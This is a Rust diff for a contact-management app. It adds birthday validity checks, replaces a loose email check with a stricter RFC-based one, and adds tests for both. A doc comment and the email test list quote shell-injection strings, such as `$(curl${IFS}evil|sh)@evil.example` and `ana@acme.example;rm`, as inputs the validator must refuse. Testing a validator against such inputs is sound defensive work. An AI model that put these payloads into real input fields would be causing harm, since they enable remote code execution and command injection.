@@ -222,9 +222,29 @@ impl FromStr for Birthday {
         let (m, d) = rest.split_once('-').ok_or_else(bad)?;
         let month: u8 = m.parse().map_err(|_| bad())?;
         let day: u8 = d.parse().map_err(|_| bad())?;
-        let check_year = year.unwrap_or(2000);
-        jiff::civil::Date::new(check_year, month as i8, day as i8).map_err(|_| bad())?;
-        Ok(Birthday { year, month, day })
+        let birthday = Birthday { year, month, day };
+        birthday.check().map_err(|_| bad())?;
+        Ok(birthday)
+    }
+}
+
+impl Birthday {
+    /// A day that exists (a year-less birthday may be 29 February) in a year of the common era
+    /// — the derived deserializer (JSON imports) accepts any numbers, so every way in checks
+    /// this. (Old placeholder years such as Apple's 1604 pass; the vCard reader drops them.)
+    pub fn check(&self) -> Result<(), String> {
+        let year = self.year.unwrap_or(2000);
+        let real = (1..=9999).contains(&year)
+            && u8::try_from(self.month).is_ok_and(|m| (1..=12).contains(&m))
+            && i8::try_from(self.month)
+                .ok()
+                .zip(i8::try_from(self.day).ok())
+                .is_some_and(|(m, d)| jiff::civil::Date::new(year, m, d).is_ok());
+        if real {
+            Ok(())
+        } else {
+            Err(format!("{self} is not a real birthday"))
+        }
     }
 }
 
@@ -431,23 +451,36 @@ impl Contact {
         if self.name.chars().count() > 200 {
             problems.push(FieldError::new("name", "is longer than 200 characters"));
         }
+        if let Some(Err(msg)) = self.birthday.map(|b| b.check()) {
+            problems.push(FieldError::new("birthday", &msg));
+        }
         Invalid::from_problems(problems)
     }
 }
 
+/// An address mail systems accept (RFC 5321/5322 without quoted local parts or address
+/// literals, which no CRM user types; RFC 6531 non-ASCII letters allowed): a dot-atom local part
+/// and a domain of at least two labels of letters, digits and inner hyphens. Shell-looking text
+/// such as `$(curl…|sh)@evil.example` is refused, since parentheses need quoting there.
 pub fn check_email(value: &str) -> Result<(), String> {
-    let ok = value.split_once('@').is_some_and(|(local, domain)| {
-        !local.is_empty()
-            && domain.contains('.')
-            && !domain.starts_with('.')
-            && !domain.ends_with('.')
-            && !domain.contains('@')
-    }) && !value.contains(char::is_whitespace);
-    if ok {
-        Ok(())
-    } else {
-        Err(format!("`{value}` is not an email address"))
-    }
+    let bad = || Err(format!("`{value}` is not an email address"));
+    let Some((local, domain)) = value.rsplit_once('@') else {
+        return bad();
+    };
+    let atext = |c: char| c.is_alphanumeric() || "!#$%&'*+/=?^_`{|}~-".contains(c);
+    let local_ok = !local.is_empty()
+        && local
+            .split('.')
+            .all(|part| !part.is_empty() && part.chars().all(atext));
+    let label_ok = |label: &str| {
+        !label.is_empty()
+            && label.len() <= 63
+            && !label.starts_with('-')
+            && !label.ends_with('-')
+            && label.chars().all(|c| c.is_alphanumeric() || c == '-')
+    };
+    let domain_ok = domain.len() <= 253 && domain.contains('.') && domain.split('.').all(label_ok);
+    if local_ok && domain_ok { Ok(()) } else { bad() }
 }
 
 pub fn check_phone(value: &str) -> Result<(), String> {
@@ -886,6 +919,55 @@ mod tests {
         assert_eq!("no-answer".parse::<Outcome>(), Ok(Outcome::NoAnswer));
         let err = "fax".parse::<Channel>().unwrap_err();
         assert!(err.contains("call, email, meeting"), "{err}");
+    }
+
+    #[test]
+    fn impossible_birthdays_are_refused() {
+        for bad in ["1990-13-99", "1990-02-31", "--02-30", "0000-01-01"] {
+            assert!(bad.parse::<Birthday>().is_err(), "{bad}");
+        }
+        assert!("--02-29".parse::<Birthday>().is_ok());
+        let from_json = Birthday {
+            year: Some(-5),
+            month: 1,
+            day: 1,
+        };
+        assert!(from_json.check().is_err());
+        let draft = ContactDraft {
+            name: "Ana".into(),
+            birthday: Some(Birthday {
+                year: Some(1990),
+                month: 2,
+                day: 31,
+            }),
+            ..ContactDraft::default()
+        };
+        assert!(draft.into_contact(&Actor::new("t")).is_err());
+    }
+
+    #[test]
+    fn emails_are_what_mail_systems_accept() {
+        for good in [
+            "ana@acme.example",
+            "ana.horvat+crm@mail.acme.example",
+            "o'brien@example.ie",
+            "jürgen@müller.example",
+        ] {
+            assert!(check_email(good).is_ok(), "{good}");
+        }
+        for bad in [
+            "$(curl${IFS}evil|sh)@evil.example",
+            "ana@example",
+            "ana..h@example.com",
+            ".ana@example.com",
+            "ana@-acme.example",
+            "ana@acme..example",
+            "a b@example.com",
+            "ana@acme.example;rm",
+            "<ana@acme.example>",
+        ] {
+            assert!(check_email(bad).is_err(), "{bad}");
+        }
     }
 
     #[test]
